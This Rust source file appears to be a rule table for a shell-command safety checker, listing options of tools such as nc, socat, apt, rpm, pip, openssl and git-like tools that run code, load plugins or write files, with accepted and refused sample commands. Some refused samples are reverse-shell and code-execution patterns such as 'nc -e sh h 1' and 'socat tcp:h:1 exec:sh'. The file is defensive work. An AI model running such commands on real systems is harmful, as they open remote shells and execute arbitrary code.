//! Tools with a few options that run something.

use super::super::program::{dd_operand, exec_operand, instructions};
use super::super::{GUARDED, Operand, Row, Sub, TOOL};
use crate::shell::option::{Abbreviation, Dash};

pub(super) static ROWS: &[Row] = &[
    Row {
        names: &["strip", "install", "cpio", "unzip", "7z"],
        spec: "strip-program:!run rsh-command:!run to-command:!run F:!remote o:!remote I:!remote g: m: t: d: S: P: file:!remote",
        accepts: &["unzip x.zip", "install -m 755 a b", "unzip -q x.zip -d y"],
        refuses: &[
            "install --strip-program=x a b",
            "install -s --strip-p x a b",
            "cpio -i --rsh-command=x",
            "cpio -iF h:f",
        ],
        ..TOOL
    },
    Row {
        names: &["dd"],
        operand: Operand::Each(dd_operand),
        accepts: &["dd if=a bs=1 count=3", "dd if=a of=/dev/null"],
        refuses: &["dd if=a of=b"],
        ..TOOL
    },
    Row {
        names: &["tcpdump", "tshark", "wireshark", "dumpcap"],
        spec: "z:!run w:!write X:!load F:!config r: i: n c: s: C: G: W: e l v q t N A D:",
        accepts: &["tcpdump -n -r f"],
        refuses: &[
            "tcpdump -z x",
            "tcpdump -lz x",
            "tcpdump -nw f",
            "tshark -X lua_script:x",
            "tcpdump -Uz x",
        ],
        ..GUARDED
    },
    Row {
        names: &["nc", "ncat", "netcat", "socat"],
        spec: "e:!run c:!run exec:!run sh-exec:!run lua-exec:!run p: s: w: x: X: i: q: I: O: P: T: V: m: M: l v n k u z 4 6 d D F h N r S t U C b o:!write",
        operand: Operand::Each(exec_operand),
        accepts: &["nc -vz host 80", "nc -l 8080", "socat - TCP:host:80"],
        refuses: &[
            "nc -e sh h 1",
            "nc -lve sh",
            "nc -lvp 1 -e sh",
            "nc -ylve sh",
            "ncat --exec sh h 1",
            "ncat --sh-exec x h 1",
            "socat EXEC:sh -",
            "socat tcp:h:1 exec:sh",
            "socat - create:f",
        ],
        ..GUARDED
    },
    Row {
        names: &["apt", "apt-get", "aptitude", "apt-cache"],
        spec: "o:|option:!aptopt c:|config-file:!config y q s d f m u V t: a: v!stop version!stop",
        accepts: &[
            "apt list",
            "apt-get install -y x",
            "apt-get -o Debug::x=1 update",
            "apt-cache search x",
        ],
        refuses: &[
            "apt-get -o APT::Update::Pre-Invoke::=x update",
            "apt-get -yo DPkg::Post-Invoke::=x install y",
            "apt -o Dir::Bin::dpkg=./x install y",
            "apt -c f update",
            "apt-get --opt=Dpkg::Pre-Install-Pkgs::=x install y",
        ],
        ..GUARDED
    },
    Row {
        names: &["dpkg", "dpkg-deb"],
        spec: "pre-invoke:!run post-invoke:!run admindir:!config root:!config instdir:!config i!run install!run unpack!run configure!run r!run P!run l L s S I c version!stop",
        accepts: &["dpkg -l", "dpkg -L x", "dpkg -s x"],
        refuses: &[
            "dpkg --pre-invoke=x -l",
            "dpkg -i x.deb",
            "dpkg --root=d -l",
            "dpkg --inst x.deb",
        ],
        ..TOOL
    },
    Row {
        names: &["rpm", "rpmbuild", "rpmspec", "brew", "gem", "easy_install"],
        spec: "E:|eval:!code define:!code D:!code macros:!config load:!load rcfile:!config root:!config pipe:!run install!run U!run upgrade!run l L s S p q a i V version!stop",
        abbreviation: Abbreviation::None,
        accepts: &["rpm -qa", "rpm -qi x", "gem list", "brew list"],
        refuses: &[
            "rpm --eval '%(x)'",
            "rpm -E '%(x)'",
            "rpm -qa --pipe x",
            "rpm -qD 'a %(x)' b",
            "rpmbuild --define 'a %(x)' b",
            "rpm -U x.rpm",
        ],
        ..GUARDED
    },
    Row {
        names: &["pip", "uvx"],
        spec: "python:!run i:!config index-url:!config extra-index-url:!config f:!config find-links:!config trusted-host:!config config-settings:!config c: r: t:|target:!write \
               root:!write prefix:!write log:!write cert: proxy:!config editor:!run from:!run with:!run",
        operand: Operand::Each(super::super::program::remote_operand),
        accepts: &["pip install -r requirements.txt", "pip list", "pip show x"],
        refuses: &[
            "pip --python x list",
            "pip install -i http://x y",
            "pip install --extra-index-url=x y",
            "pip config edit --editor x",
            "pip install -t d x",
            "pip install ext::x",
        ],
        ..TOOL
    },
    Row {
        names: &["openssl"],
        spec: "engine:!load provider:!load provider-path:!load config:!config out:!write writerand:!write keyout:!write in: key: cert: CAfile: pass: passin: passout: connect:",
        dash: Dash::Word,
        abbreviation: Abbreviation::None,
        operand: Operand::Sub(&[
            Sub {
                names: "engine",
                effect: "load",
                spec: "",
            },
            Sub {
                names: "req x509 enc dgst genrsa genpkey rsa pkey pkcs12 ca smime cms s_client s_server rand ec verify ts speed md5 sha256 sha512 base64 version ciphers",
                effect: "",
                spec: "engine:!load provider:!load provider-path:!load config:!config out:!write writerand:!write keyout:!write in: key: cert:",
            },
        ]),
        accepts: &[
            "openssl version",
            "openssl dgst -sha256 f",
            "openssl x509 -in f -noout -text",
        ],
        refuses: &[
            "openssl req -engine ./x",
            "openssl engine -t ./x",
            "openssl req -provider-path d",
            "openssl enc -out f -in g",
            "openssl req -config f",
        ],
        ..GUARDED
    },
    Row {
        names: &["gpg", "gpg2"],
        spec: "photo-viewer:!run agent-program:!run dirmngr-program:!run pinentry-program:!run keyserver-options:!ask exec-path:!load load-extension:!load options:!config homedir:!config \
               o:|output:!write log-file:!write status-file:!write logger-file:!write u: r: a s b e d v q",
        accepts: &["gpg --verify x.sig x", "gpg --list-keys"],
        refuses: &[
            "gpg --agent-program x",
            "gpg --photo-viewer x --list-keys",
            "gpg -o f -d g",
            "gpg -ao f -s g",
            "gpg --homedir d -d g",
            "gpg --agent-prog x -d g",
        ],
        ..GUARDED
    },
    Row {
        names: &["systemctl", "busctl"],
        spec: "H:|host:!run M:|machine:!run root:!config t: type: state: p: property: n: o: output: q a l no-pager version!stop",
        operand: Operand::Sub(&[Sub {
            names: "edit link enable disable start stop restart reload try-restart isolate kill mask unmask preset reenable revert set-property set-environment unset-environment \
                    import-environment daemon-reload daemon-reexec reboot poweroff halt call set-property emit",
            effect: "run",
            spec: "",
        }]),
        accepts: &[
            "systemctl status x",
            "systemctl list-units --type service",
            "busctl list",
        ],
        refuses: &[
            "systemctl start x",
            "systemctl edit x",
            "systemctl -H h status",
            "systemctl --user enable x",
            "busctl call a b c d",
        ],
        ..GUARDED
    },
    Row {
        names: &["ip"],
        spec: "b:!config batch:!config netns:!run n:!run N f: 4 6 o d s j p",
        dash: Dash::Word,
        abbreviation: Abbreviation::Unambiguous,
        operand: Operand::Sub(&[Sub {
            names: "netns netn net vrf vr v",
            effect: "run",
            spec: "",
        }]),
        accepts: &["ip addr", "ip -4 route show", "ip -j link"],
        refuses: &[
            "ip netns exec x y",
            "ip net e x y",
            "ip vrf exec x y",
            "ip -b f",
            "ip -batch f",
            "ip -n x addr",
        ],
        ..GUARDED
    },
    Row {
        names: &[
            "ansible",
            "ansible-playbook",
            "ansible-console",
            "terraform",
            "tofu",
            "vagrant",
            "packer",
        ],
        spec: "a:!run args:!run m:!run module-name:!run M:!load module-path:!load i:!load inventory:!load e: extra-vars: c:!load connection:!load ssh-common-args:!run ssh-extra-args:!run \
               sftp-extra-args:!run scp-extra-args:!run vault-password-file:!run chdir:!config plugin-dir:!load C D v k b K version!stop",
        accepts: &["ansible-playbook x.yml", "terraform plan"],
        refuses: &[
            "ansible all -a x",
            "ansible -m shell all",
            "ansible-playbook -i ./x y.yml",
            "terraform -chdir=/x plan",
            "ansible-playbook --vault-password-file=./x y",
            "ansible all -ba x",
        ],
        ..GUARDED
    },
    Row {
        names: &["nmap"],
        spec: "script:!run script-args-file:!config interactive!run datadir:!load servicedb:!config versiondb:!config iL:!config oN:!write oX:!write oG:!write oA:!write oS:!write \
               stylesheet: resume:!config p: e: S: D: g: T: m:",
        dash: Dash::Word,
        operand: Operand::Any,
        accepts: &["nmap -p 80 host", "nmap -sV host"],
        refuses: &[
            "nmap --script=x y",
            "nmap --interactive",
            "nmap -oN f y",
            "nmap --datadir d y",
            "nmap --scr x y",
        ],
        ..GUARDED
    },
    // What they are given is run later.
    Row {
        names: &["crontab", "logrotate", "incrontab", "fcrontab"],
        spec: "l e!run r!write i u: s!ask V!stop version!stop f!ask v d state:!write log:!write",
        operand: Operand::Each(instructions),
        input: true,
        accepts: &["crontab -l", "logrotate --version"],
        refuses: &["crontab x", "crontab -", "crontab -e", "logrotate x.conf", "crontab -r"],
        ..GUARDED
    },
    Row {
        names: &["hg", "chg", "svn", "svnadmin", "bzr", "jj", "fossil", "darcs", "cvs"],
        spec: "config:!config config-option:!config config-toml:!config config-file:!config config-dir:!config R:!config repository:!config cwd:!config e:!run ssh:!run remotecmd:!run \
               diff-cmd:!run diff3-cmd:!run editor-cmd:!run merge-tool:!run tool:!run profile!ask debugger!run x: d: r: m: F: q v",
        accepts: &["hg status", "svn diff", "hg log -r tip", "jj log"],
        refuses: &[
            "hg --config alias.x='!y' x",
            "hg --config=extensions.x=y.py status",
            "svn diff --diff-cmd x",
            "svn --config-option a:b:c=d up",
            "hg -R x status",
            "hg clone --ssh x y",
            "hg status --conf a.b=c",
            "jj --config-toml x log",
        ],
        ..GUARDED
    },
    Row {
        names: &[
            "aria2c",
            "yt-dlp",
            "youtube-dl",
            "rclone",
            "restic",
            "borg",
            "duplicity",
        ],
        spec: "on-download-complete:!run on-download-start:!run on-download-stop:!run on-download-error:!run on-download-pause:!run on-bt-download-complete:!run conf-path:!config exec:!run \
               exec-before-download:!run config-location:!config config-locations:!config external-downloader:!run downloader:!run plugin-dirs:!load netrc-cmd:!run ffmpeg-location:!run \
               password-command:!run sftp-ssh:!run config:!config rsh:!run remote-path:!run ssh-options:!run i:!config input-file:!config batch-file:!config a:!config o:!write d:!write P:!write r: \
               use-postprocessor:!load q v",
        accepts: &["yt-dlp http://x", "rclone ls x:", "restic snapshots"],
        refuses: &[
            "aria2c --on-download-complete=x http://y",
            "yt-dlp --exec x http://y",
            "rclone --password-command x ls y:",
            "borg --rsh x list",
            "restic --password-comm x snapshots",
            "yt-dlp --downloader x http://y",
            "aria2c -d /x http://y",
        ],
        ..GUARDED
    },
    Row {
        names: &["gh", "glab"],
        spec: "R: repo: version!stop",
        abbreviation: Abbreviation::None,
        operand: Operand::Sub(&[Sub {
            names: "alias extension extensions ext codespace cs config ssh-key auth browse copilot",
            effect: "run",
            spec: "",
        }]),
        accepts: &["gh pr list", "gh issue view 1", "gh --version", "gh run list"],
        refuses: &[
            "gh alias set x '!y'",
            "gh extension exec x",
            "gh config set editor x",
            "gh codespace ssh",
        ],
        ..GUARDED
    },
    Row {
        names: &[
            "pandoc", "pdflatex", "latex", "tex", "xelatex", "lualatex", "fzf", "bat", "delta", "protoc", "jq", "yq",
            "cmake", "sdiff", "gs",
        ],
        spec: "shell-escape!run enable-write18!run lua-filter:!code F:!run filter:!run diff-program:!run preview:!run bind:!run pager:!run library-path:!load L:!load \
               E:!cmake P:!run plugin:!run dNOSAFER!run arg: o: output: C: S: B: G: D:",
        dash: Dash::Word,
        abbreviation: Abbreviation::None,
        accepts: &[
            "jq -r .a f",
            "pandoc x.md",
            "cmake --build b",
            "jq .version package.json",
            "fzf -f x",
            "cmake -S . -B b",
        ],
        refuses: &[
            "pdflatex --shell-escape x",
            "pdflatex -shell-escape x",
            "pandoc --lua-filter=x y",
            "pandoc -F x y",
            "fzf --preview x",
            "bat --pager=x f",
            "protoc --plugin=x y",
            "jq -L /x y",
            "cmake -E env x",
            "cmake -P x.cmake",
            "sdiff --diff-program=x a b",
        ],
        ..TOOL
    },
];
